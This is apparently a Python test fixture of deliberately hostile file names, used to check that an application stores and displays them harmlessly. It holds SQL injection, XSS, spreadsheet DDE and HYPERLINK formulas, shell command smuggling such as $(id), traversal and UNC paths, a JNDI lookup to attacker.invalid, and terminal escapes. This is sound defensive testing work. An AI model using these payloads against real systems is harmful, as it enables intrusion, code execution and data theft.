"""File names from every nasty list: each must be stored and shown harmlessly."""

from __future__ import annotations

RESERVED = [
    *("CON.txt", "PRN.txt", "AUX.txt", "NUL.txt", "COM1.txt", "LPT9.txt", "con", "nul.md", "aux", "CLOCK$.txt"),
    *("con.minutes.txt", "NUL .txt", "COM\u00b9.txt"),
]
CLIMBING = [
    *("..txt", "...", "....txt", "..\\..\\owned.txt", "\\\\attacker.invalid\\share\\owned.txt", "\\owned.txt"),
    *("C:\\owned.txt", "C:owned.txt", "file:owned.txt", "~", "~root", "-rf.txt", "--help", "-", "..%2f..%2fowned.txt"),
    *(
        "%2e%2e%5cowned.txt",
        "..\u2215..\u2215owned.txt",
        "..\uff0fowned.txt",
        "minutes.txt:stream",
        "minutes.txt::$DATA",
    ),
]
ENDS = [
    "dot at the end.",
    "dots at the end...",
    "blank at the end ",
    " blank before.txt",
    "tab\tinside.txt",
    "ends.txt. ",
]
INVISIBLE = [
    *("minutes\u202etxt.exe.txt", "\u202e\u202e.txt", "\ufeffbom.txt", "a\u200bb.txt", "\u2066isolate\u2069.txt"),
    *(
        "soft\u00adhyphen.txt",
        "\u200f.txt",
        "zero\u200djoin.txt",
        "\u2028line.txt",
        "\u2029paragraph.txt",
        "\u00a0.txt",
    ),
    *("\u180e.txt", "\U000e0041tag.txt", "\ufff9note.txt", "private\ue000.txt", "no character\ufffe.txt"),
]
CONTROLS = [
    *("line\nend.txt", "carriage\rreturn.txt", "both\r\nHTTP-1.1 200 OK\r\nX-Owned: yes.txt", "bell\x07.txt"),
    *(
        "colour\x1b[31mred.txt",
        "title\x1b]0;owned\x07.txt",
        "clear\x1b[2J.txt",
        "back\x08\x08space.txt",
        "delete\x7f.txt",
    ),
    *("next\x85line.txt", "\x01\x02\x03.txt", "screen\x9b31m.txt", "log\n2026-03-03 admin accepted L-0001.txt"),
]
LONG = [
    "a" * 251 + ".txt",
    "\u00e9" * 125 + ".txt",
    "\U0001f600" * 62 + ".txt",
    "a." + "b" * 250,
    "Z\u0351\u036b\u0343" * 20 + ".txt",
]
ALIKE = [
    *("caf\u00e9.txt", "cafe\u0301.txt", "CAF\u00c9.txt", "MINUTES.txt", "minutes.TXT", "Minutes.txt", "minutes.txt"),
    *(
        "\u212bngstrom.txt",
        "\u00c5ngstrom.txt",
        "stra\u00dfe.txt",
        "strasse.txt",
        "\ufb01le.txt",
        "file.txt",
        "\u0456nutes.txt",
    ),
]
FORMULAS = [
    *("=1+1.txt", "+1.txt", "-1.txt", "@SUM(A1).txt", "=cmd|' calc'!A0.txt", "\t=1.txt", "\uff1d1+1.txt", "'=1.txt"),
    *('=HYPERLINK("attacker.invalid").txt', "%0A=1.txt", ";=1.txt", " =1.txt", "{=1}.txt"),
]
QUERIES = [
    *("'; DROP TABLE item; --.txt", "1' OR '1'='1.txt", '" OR ""=".txt', "Robert'); DELETE FROM version;--.txt"),
    *(
        "%' ESCAPE '!.txt",
        "a_%_.txt",
        "NULL",
        "null",
        "None",
        "undefined",
        "true",
        "0",
        "1e309",
        "-0",
        "NaN",
        "Infinity",
    ),
    *("title:* OR 1.txt", '"unclosed.txt', "NEAR(.txt", "a*?~[.txt"),
]
MARKUP = [
    *("<script>alert(1)<.script>.txt", "<img src=x onerror=alert(1)>.txt", '"><svg onload=alert(1)>.txt'),
    *("&lt;b&gt;.txt", "&#x3c;.txt", "]]>.txt", "-->.txt", "<!--.txt", "<?xml.txt", "`code`.txt", "**bold**.txt"),
    *(
        "[link](javascript:alert(1)).txt",
        "![pixel](attacker.invalid).txt",
        ":red[words].txt",
        "$x^2$.txt",
        "# head.txt",
    ),
    *("| a | b |.txt", "javascript:alert(1).txt", "<b.txt", "'onmouseover='alert(1).txt"),
]
TEMPLATES = [
    *("{{7*7}}.txt", "${7*7}.txt", "#{7*7}.txt", "<%= 7*7 %>.txt", "{0.__class__}.txt", "%s%n%x.txt", "%(name)s.txt"),
    *(
        "$(id).txt",
        "`id`.txt",
        "|id.txt",
        ";id.txt",
        "&& id.txt",
        "> owned.txt",
        "$HOME.txt",
        "!!.txt",
        "*.txt",
        "?.txt",
    ),
    *("a b  c.txt", "'quoted'.txt", '"quoted".txt', "back\\slash.txt", "eval.txt", "${jndi:ldap:attacker.invalid}.txt"),
]
NAMES: list[str] = [
    *(*RESERVED, *CLIMBING, *ENDS, *INVISIBLE, *CONTROLS, *LONG, *ALIKE, *FORMULAS, *QUERIES, *MARKUP, *TEMPLATES),
]

NOT_ON_A_DISK = [
    *("../../../../owned.txt", "/etc/owned.txt", "/", ".", "..", "", "a" * 5_000 + ".txt", "\u00e9" * 300 + ".txt"),
    *(
        "nought\0.txt",
        "minutes.txt\0.exe",
        "half\ud800.txt",
        "a/../../owned.txt",
        "C:\\Windows\\owned.txt",
        "\0",
        "\r\n",
    ),
    *("a." + "b" * 300, " / ", "\\", "//owned.txt", "\u202e" * 300, "\u0301" * 200 + ".txt", "\u0344" * 60 + "a.txt"),
]
"""Names no file can have here, as a mail or an upload states them."""


def words_for(name: str) -> bytes:
    """A small good text, another one for each name."""
    told = name.encode("utf-8", "backslashreplace").hex()
    return f"Synthetic minutes of 3 March 2026.\n\nKept under the name {told[:600]} of {len(told)} digits.\n".encode()
